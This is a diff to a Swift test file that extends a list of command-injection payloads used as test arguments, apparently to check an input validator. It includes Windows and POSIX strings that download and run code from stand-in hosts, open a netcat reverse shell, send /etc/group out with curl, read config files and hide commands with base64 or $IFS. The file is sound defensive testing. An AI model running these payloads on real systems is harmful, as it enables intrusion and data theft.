@@ -43,9 +43,24 @@ import Testing
         // Windows
         "& cmd /c whoami", "| cmd.exe /c dir c:\\", "%COMSPEC% /c ver", "| %ComSpec% /k whoami", "& net user",
         "&& whoami /priv", "| type c:\\windows\\win.ini", "& powershell -enc SQBFAFgA", "| powershell -e SQBFAFgA",
-        "& powershell.exe -nop -w hidden -c whoami", "&& c^m^d /c wh^oami", "& set", "|| ping -n 5 127.0.0.1",
+        "& powershell.exe -nop -w hidden -c whoami", "&& c^m^d /c wh^oami", "|| ping -n 5 127.0.0.1",
         "& dir %SYSTEMROOT%", "& echo %USERNAME%", "x & timeout /t 6 &", "&& certutil -urlcache -f http://e.example/a a",
         "& for /f %i in ('whoami') do echo %i", "127.0.0.1 & tasklist", "| findstr /s password *.txt",
+        "& copy c:\\windows\\win.ini x.txt", "& start /b calc.exe", "&& powershell iex(iwr http://e.example/a)",
+        "& wmic process list brief", "& rundll32 x.dll,Entry", "&& mshta http://e.example/a.hta",
+        "& reg query HKLM\\Software", "| ver", "& systeminfo", "&& ipconfig", "& call whoami",
+        "& %SystemRoot%\\System32\\cmd.exe /c dir", "& C:\\Windows\\System32\\whoami.exe",
+        "|| net localgroup administrators", "& type C:\\inetpub\\wwwroot\\web.config", "& dir /s /b c:\\*.config",
+        "x & ping -n 10 localhost", "\"&whoami&\"", "'|id|'", "& cmd /v:on /c \"set x=who&&!x!ami\"",
+        // more POSIX
+        "\nwhoami", "x||whoami", "x|whoami|", "x&id&", ";id;#", ";ec\"\"ho hi", ";un'a'me -a", ";u\\name -a",
+        "x;{echo,aWQ=}|{base64,-d}|bash", "x;cat$(echo /etc/group)", ";/u?r/b?n/i?", ";LD_PRELOAD=/tmp/x.so ls",
+        ";eval \"$(echo aWQ=|base64 -d)\"", ";exec id", ";sh<<<id", ";bash<<<$(base64 -d<<<aWQ=)",
+        ";/bin/busybox nc 10.0.0.5 80 -e sh", ";nc 10.0.0.5 80 < /etc/group", ";curl -d @/etc/group http://e.example",
+        "$(</etc/group)", ";{sleep,5}", ";sleep$IFS'5'", "x;echo${IFS}test>/tmp/x", ";echo hello >> ~/.bashrc",
+        ";cat /etc/group|base64", ";id>&2", "x;ls -la /home", "x;find / -name '*.conf'", ";touch /tmp/pwn",
+        ";chmod +x /tmp/s;/tmp/s", ";./s.sh", "x; head -n 3 /etc/group", ";crontab -l", "|| sleep 3 &",
+        "%250aid", "x%253Bid", "%26%26whoami",
     ]
 
     @Test(arguments: attacks)
